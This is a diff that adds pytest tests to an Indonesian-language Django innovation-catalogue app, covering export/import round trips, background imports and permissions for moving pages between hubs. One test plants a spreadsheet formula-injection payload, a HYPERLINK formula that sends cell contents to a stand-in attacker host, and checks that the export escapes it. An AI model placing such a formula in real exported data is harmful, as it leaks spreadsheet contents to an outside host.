@@ -272,3 +272,142 @@ def test_import_jobs_and_exports_are_private_to_their_hub(client, world, people)
     login(client, people.coordinator_a)
     assert client.get(reverse("innovations_import_job", args=[job.pk])).status_code == 200
     assert client.get(export_a).status_code == 200
+
+
+# --- export, and the round trip --------------------------------------------------------------
+
+
+def export_url(hub, file_format):
+    return reverse("innovations_export") + f"?hub={hub.pk}&format={file_format}"
+
+
+def exported_rows(response, file_format):
+    """(header, rows) of an export, as a spreadsheet program would read them."""
+    import csv
+
+    if file_format == "csv":
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    else:
+        sheet = load_workbook(io.BytesIO(response.content))["Inovasi"]
+        rows = [["" if v is None else v for v in r] for r in sheet.iter_rows(values_only=True)]
+    return rows[0], rows[1:]
+
+
+def as_file(header, rows, file_format):
+    if file_format == "csv":
+        import csv
+
+        output = io.StringIO()
+        csv.writer(output).writerows([header, *rows])
+        return output.getvalue().encode("utf-8-sig")
+    return xlsx(rows, header=list(header))
+
+
+@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
+def test_export_edit_import_changes_only_what_was_edited(client, world, people, file_format):
+    login(client, people.coordinator_a)
+    response = client.get(export_url(world.hub_a, file_format))
+    assert response.status_code == 200
+    header, rows = exported_rows(response, file_format)
+    assert list(header) == headers()
+    by_id = {r[0]: r for r in rows}
+    assert set(by_id) == {world.a_live.slug, world.a_draft.slug}
+    assert by_id[world.a_live.slug][header.index("Provinsi")] == "Jawa Barat"  # names, not codes
+    by_id[world.a_live.slug][header.index("Tagline")] = "Tagline yang diperbarui lewat ekspor."
+    untouched = InnovationPage.objects.get(pk=world.a_draft.pk)
+    edited_sections = InnovationPage.objects.get(pk=world.a_live.pk).summary
+
+    job = job_of(upload(client, as_file(header, rows, file_format), f"x.{file_format}"))
+
+    assert job.status == ImportJob.Status.READY, job.report
+    assert job.report["per_hub"] == {HUB_A: {"created": 0, "updated": 1, "unchanged": 1}}
+    client.post(reverse("innovations_import_job", args=[job.pk]), {"confirm": "1"})
+    page = InnovationPage.objects.get(pk=world.a_live.pk)
+    assert page.tagline == "Tagline yang diperbarui lewat ekspor." and page.live
+    assert page.summary == edited_sections
+    after = InnovationPage.objects.get(pk=world.a_draft.pk)
+    assert after.latest_revision_id == untouched.latest_revision_id and not after.live
+
+
+@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
+def test_export_escapes_formulas_and_reads_them_back_as_text(client, world, people, file_format):
+    formula = '=HYPERLINK("http://jahat.example/?x="&A1,"Klik")'
+    InnovationPage.objects.filter(pk=world.a_live.pk).update(title=formula, source_hash="")
+    login(client, people.coordinator_a)
+
+    response = client.get(export_url(world.hub_a, file_format))
+
+    header, rows = exported_rows(response, file_format)
+    titles = [r[header.index("Judul")] for r in rows]
+    assert "'" + formula in titles and formula not in titles
+    if file_format == "xlsx":
+        sheet = load_workbook(io.BytesIO(response.content))["Inovasi"]
+        assert all(cell.data_type != "f" for row_ in sheet.iter_rows() for cell in row_)
+    job = job_of(upload(client, as_file(header, rows, file_format), f"x.{file_format}"))
+    assert job.report["per_hub"] == {HUB_A: {"created": 0, "updated": 0, "unchanged": 2}}
+
+
+# --- large files in the background --------------------------------------------------------
+
+
+def test_large_file_is_checked_and_written_in_the_background(
+    client, world, people, monkeypatch, django_capture_on_commit_callbacks
+):
+    from innovations.importing import jobs
+
+    monkeypatch.setattr(jobs, "IN_REQUEST_ROWS", 1)
+    login(client, people.coordinator_a)
+    data = xlsx([row(Judul=f"Inovasi Latar {n}") for n in range(3)])
+
+    with django_capture_on_commit_callbacks(execute=False) as callbacks:
+        job = job_of(upload(client, data, hub=world.hub_a))
+    # Queued, not yet run: the page shows a progress bar and refreshes itself.
+    assert job.status == ImportJob.Status.CHECKING and len(callbacks) == 1
+    html = body(client.get(reverse("innovations_import_job", args=[job.pk])))
+    assert 'id="import-progress"' in html and 'http-equiv="refresh"' in html
+    callbacks[0]()  # the worker's turn (the immediate backend runs the task here)
+    job.refresh_from_db()
+    assert job.status == ImportJob.Status.READY
+
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(reverse("innovations_import_job", args=[job.pk]), {"confirm": "1"})
+
+    job.refresh_from_db()
+    assert job.status == ImportJob.Status.DONE
+    assert InnovationPage.objects.filter(title__startswith="Inovasi Latar").count() == 3
+    html = body(client.get(reverse("innovations_import_job", args=[job.pk])))
+    assert 'http-equiv="refresh"' not in html and 'id="import-done"' in html
+
+
+# --- moving between hubs (issue 17, finding 4) ----------------------------------------------
+
+
+def moving_row(world):
+    """Hub B's published page, claimed for hub A."""
+    return row(ID=world.b_live.slug, Judul="KLAMPID Surabaya Terbit", Simpul=HUB_A)
+
+
+def test_import_does_not_move_another_hubs_page(client, world, people):
+    login(client, people.coordinator_a)
+
+    job = job_of(upload(client, xlsx([moving_row(world)]), allow_move=True))
+
+    assert job.status == ImportJob.Status.INVALID
+    (problem,) = job.report["problems"]
+    assert problem[1] == "Simpul" and "tidak berhak atas simpul itu" in problem[2]
+    assert InnovationPage.objects.get(pk=world.b_live.pk).get_parent().pk == world.hub_b.pk
+
+
+def test_moving_needs_rights_on_both_hubs_and_the_checkbox(client, world, people):
+    both = people.coordinator_a
+    both.groups.add(world.hub_b.coordinators)
+    login(client, both)
+
+    job = job_of(upload(client, xlsx([moving_row(world)])))
+    assert job.status == ImportJob.Status.INVALID
+    assert "kecuali diminta" in job.report["problems"][0][2]
+
+    job = job_of(upload(client, xlsx([moving_row(world)]), allow_move=True))
+    assert job.status == ImportJob.Status.READY
+    client.post(reverse("innovations_import_job", args=[job.pk]), {"confirm": "1"})
+    assert InnovationPage.objects.get(pk=world.b_live.pk).get_parent().pk == world.hub_a.pk
